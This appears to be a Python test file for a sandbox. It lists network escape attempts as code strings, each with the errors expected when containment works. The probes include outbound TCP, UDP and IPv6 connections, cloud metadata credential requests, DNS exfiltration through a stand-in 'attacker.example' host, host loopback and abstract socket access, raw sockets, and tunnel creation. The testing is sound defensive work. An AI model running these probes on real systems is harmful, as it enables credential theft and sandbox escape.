"""Ways out by a network."""

from tests.hostile.behaviour import Behaviour

CONNECT = """\
import socket
def connect(family, address):
    with socket.socket(family) as attempted:
        attempted.settimeout(3)
        attempted.connect(address)
"""

NETWORK = (
    Behaviour(
        name="tcp-out",
        does="connects to addresses on the internet, in private networks and the engine's bridge",
        python=CONNECT
        + """\
for address in ("1.1.1.1", "8.8.8.8", "10.0.0.1", "172.17.0.1", "192.168.1.1", "100.64.0.1"):
    attempt(connect, socket.AF_INET, (address, 443))
""",
        answers=("ENETUNREACH",),
    ),
    Behaviour(
        name="cloud-metadata",
        does="asks the cloud's metadata service for credentials",
        python=CONNECT + "attempt(connect, socket.AF_INET, ('169.254.169.254', 80))\n"
        "attempt(connect, socket.AF_INET6, ('fd00:ec2::254', 80))",
        answers=("ENETUNREACH", "EADDRNOTAVAIL"),
    ),
    Behaviour(
        name="ipv6-out",
        does="connects over IPv6, link-local and multicast addresses among them",
        python=CONNECT
        + """\
for address in ("2606:4700:4700::1111", "fe80::1", "ff02::1"):
    attempt(connect, socket.AF_INET6, (address, 443))
""",
        answers=("ENETUNREACH", "EADDRNOTAVAIL", "EINVAL"),
    ),
    Behaviour(
        name="udp-out",
        does="sends datagrams and broadcasts",
        python="""\
import socket
for address in ("8.8.8.8", "255.255.255.255", "224.0.0.251"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        attempt(out.sendto, b"x", (address, 53))
""",
        answers=("ENETUNREACH",),
    ),
    Behaviour(
        name="dns",
        does="looks a name up, and carries data out in it",
        python="""\
import socket
for host in ("example.com", "c2VjcmV0.attacker.example"):
    try:
        socket.getaddrinfo(host, 80)
        print("resolved")
    except socket.gaierror:
        print("no answer")
""",
        answers=("no answer",),
    ),
    Behaviour(
        name="host-loopback",
        does="connects to a port that the host listens on at its loopback address",
        python=CONNECT
        + """\
attempt(connect, socket.AF_INET, ("127.0.0.1", int(os.environ["HOST_PORT"])))
attempt(connect, socket.AF_INET6, ("::1", int(os.environ["HOST_PORT"])))
""",
        answers=("ECONNREFUSED", "EADDRNOTAVAIL"),
    ),
    Behaviour(
        name="host-abstract-socket",
        does="connects to an abstract socket of the host, and looks for others",
        python=CONNECT
        + """\
attempt(connect, socket.AF_UNIX, "\\0" + os.environ["HOST_ABSTRACT"])
print("seen" if os.environ["HOST_ABSTRACT"] in open("/proc/net/unix").read() else "ECONNREFUSED")
""",
        answers=("ECONNREFUSED",),
    ),
    Behaviour(
        name="raw-sockets",
        does="opens raw and packet sockets",
        python="""\
import socket
for family, kind, protocol in ((2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 0x300), (17, 2, 0x300)):
    attempt(socket.socket, family, kind, protocol)
""",
        answers=("EPERM",),
    ),
    Behaviour(
        name="vsock",
        does="opens a socket to the hypervisor (AF_VSOCK)",
        python="for kind in (1, 2, 5): syscall(41, 40, kind, 0)",
        answers=("EPERM",),
    ),
    Behaviour(
        name="other-socket-families",
        does="opens a socket of every other family (AF_ALG, AF_XDP, CAN, Bluetooth, TIPC, RDS, …)",
        python="""\
for family in range(3, 64):
    if family not in (10, 16):
        syscall(41, family, 2, 0)
        syscall(41, family, 5, 0)
syscall(41, 1 << 32 | 40, 1, 0)
""",
        answers=("EPERM",),
    ),
    Behaviour(
        name="netlink",
        does="speaks to the kernel's audit, netfilter, uevent and crypto interfaces",
        python="for protocol in range(1, 32): syscall(41, 16, 3, protocol)",
        answers=("EPERM",),
    ),
    Behaviour(
        name="interfaces",
        does="adds an address and a route, and makes a tunnel",
        python="""\
import fcntl, socket, struct
with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
    route.bind((0, 0))
    address = struct.pack("BBBBi", 2, 8, 0, 0, 1)
    gateway = struct.pack("BBBBBBBBi", 2, 0, 0, 0, 254, 3, 0, 1, 0)
    for kind, body in ((20, address), (24, gateway)):
        route.send(struct.pack("IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
        print(name(-struct.unpack("i", route.recv(4096)[16:20])[0]))
attempt(os.open, "/dev/net/tun", os.O_RDWR)
with socket.socket() as plain:
    attempt(fcntl.ioctl, plain, 0x8914, struct.pack("16sH14x", b"lo", 0))
""",
        answers=("EPERM", "ENOENT"),
    ),
    Behaviour(
        name="only-loopback",
        does="lists the network interfaces",
        python="import socket\nfor _, found in socket.if_nameindex(): print(found)",
        # Some kernels put their unused tunnel devices into every network namespace.
        answers=("lo", "tunl0", "sit0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0", "ip6tnl0", "ip6gre0"),
    ),
)
